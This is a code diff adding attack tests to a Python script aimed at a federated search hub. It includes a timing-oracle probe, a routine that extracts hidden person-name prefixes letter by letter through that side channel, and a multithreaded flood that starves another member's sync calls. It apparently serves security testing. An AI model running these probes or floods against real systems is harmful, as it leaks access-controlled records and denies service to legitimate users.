@@ -180,5 +180,134 @@ def flood(workers: int = 32, seconds: float = 15) -> None:
         max_s=round(max(lat), 3), errors=errs)
 
 
+
+def oracle(n: int = 40) -> None:
+    """Amplified timing oracle: a probe prefix first, then 30 common one-letter prefixes.
+    If the probe matches no term anywhere in the hub's store, the hub's planner stops
+    after one count; if it matches a term of a record the caller may NOT read, the hub
+    counts all 31 criteria (up to DRIVE_LIMIT rows each) and still answers nothing."""
+    stub = member("TZ", "KE")
+    common = "a b c d e f g"
+    words = " ".join(["a", "b", "c", "d", "e", "f", "g", "h"])
+    probes = {
+        "hidden zzredsec (node:KE, TLP:RED)": "zzredsec",
+        "hidden zzambers (national:KE)": "zzambers",
+        "hidden zzbilat (bilateral:KE+VN)": "zzbilat",
+        "absent zzredsex": "zzredsex",
+        "absent zzqq": "zzqq",
+        "absent zzambery": "zzambery",
+    }
+
+    def q(p: str) -> spb.SearchQuery:
+        return spb.SearchQuery(text=f"{p} {common}", company=words, person=words, species=words)
+
+    for p in probes.values():
+        call(stub, q(p), 20)
+    res: dict[str, list[float]] = {k: [] for k in probes}
+    hits: dict[str, int] = {}
+    for _ in range(n):
+        for k, p in probes.items():
+            r, err, t = call(stub, q(p), 20)
+            res[k].append(t * 1000)
+            hits[k] = -1 if r is None else len(r.hits)
+    for k, v in res.items():
+        s = sorted(v)
+        out(test="oracle", case=k, hits=hits[k], median_ms=round(statistics.median(v), 2),
+            min_ms=round(s[0], 2), max_ms=round(s[-1], 2))
+
+
+def extract(samples: int = 5, depth: int = 7) -> None:
+    """Read hidden words out of a hub with the oracle: person-name prefixes of KE's
+    national:KE records (the region view TZ may read has no persons), letter by letter."""
+    stub = member("TZ", "KE")
+    amp = dict(species="a b c d e f g h", commodity=1, country="KE", kind=epb.RECORD_KIND_SEIZURE)
+
+    def t(prefix: str) -> float:
+        best = 1e9
+        for _ in range(samples):
+            r, err, dt = call(stub, spb.SearchQuery(person=prefix, **amp), 20)
+            if err or r.hits:
+                return -1.0  # error, or visible results: not a hidden-only probe
+            best = min(best, dt * 1000)
+        return best
+
+    absent = min(t("qqqqzz"), t("zzzqqx"), t("xqjzv"))
+    threshold = absent * 1.6
+    out(test="extract", calibration_absent_ms=round(absent, 2), threshold_ms=round(threshold, 2))
+    frontier = [""]
+    found: list[str] = []
+    t0 = time.monotonic()
+    calls = 0
+    while frontier:
+        prefix = frontier.pop()
+        hits = []
+        for ch in "abcdefghijklmnopqrstuvwxyz":
+            v = t(prefix + ch)
+            calls += samples
+            if v > threshold:  # confirm: every one of 3x more samples slow, against a fresh absent control
+                control = t("qx" + prefix + ch + "qx")
+                recheck = min(t(prefix + ch) for _ in range(3))
+                calls += 4 * samples
+                if recheck > max(threshold, control * 1.6):
+                    hits.append(prefix + ch)
+        if len(prefix) + 1 >= depth or not hits:
+            if prefix:
+                found.append(prefix)
+            found.extend(h for h in hits if len(h) >= depth)
+            continue
+        frontier.extend(hits)
+        if len(found) > 12:
+            break
+    out(test="extract", hidden_person_prefixes=sorted(set(found)), calls=calls,
+        secs=round(time.monotonic() - t0, 1))
+
+
+def starve(workers: int = 48, seconds: float = 20) -> None:
+    """TZ floods KE's federation listener with the heaviest accepted query (32 criteria,
+    page 100) from `workers` threads; meanwhile KE-MBA (KE's child) times its sync calls
+    (GetVector, what every sync round starts with) and a cheap HubSearch at KE."""
+    from gcn.v1 import sync_pb2
+
+    heavy = spb.SearchQuery(text="a b c d e f g h", company="a b c d e f g h", person="a b c d e f g h",
+                            species="a b c d e f g h")
+    victim = member("KE-MBA", "KE")
+
+    def probe_victim(label: str, n: int = 15) -> None:
+        lat, errs = [], 0
+        for _ in range(n):
+            t0 = time.perf_counter()
+            try:
+                victim.GetVector(sync_pb2.GetVectorRequest(), timeout=30)
+            except grpc.RpcError:
+                errs += 1
+            lat.append((time.perf_counter() - t0) * 1000)
+            time.sleep(0.2)
+        out(test="starve", phase=label, victim="KE-MBA GetVector at KE", median_ms=round(statistics.median(lat), 1),
+            max_ms=round(max(lat), 1), errors=errs)
+
+    probe_victim("before")
+    stop = time.monotonic() + seconds
+    lat: list[float] = []
+    errs: dict[str, int] = {}
+
+    def worker() -> None:
+        stub = member("TZ", "KE")
+        while time.monotonic() < stop:
+            r, err, t = call(stub, heavy, 100, timeout=30)
+            lat.append(t)
+            if err:
+                errs[err[:60]] = errs.get(err[:60], 0) + 1
+
+    with ThreadPoolExecutor(workers + 1) as pool:
+        fs = [pool.submit(worker) for _ in range(workers)]
+        time.sleep(2)
+        probe_victim("during flood")
+        for f in fs:
+            f.result()
+    out(test="starve", attacker_calls=len(lat), attacker_median_s=round(statistics.median(lat), 3),
+        attacker_max_s=round(max(lat), 3), errors=errs)
+    probe_victim("after")
+
+
 if __name__ == "__main__":
     globals()[sys.argv[1] if len(sys.argv) > 1 else "probe"]()
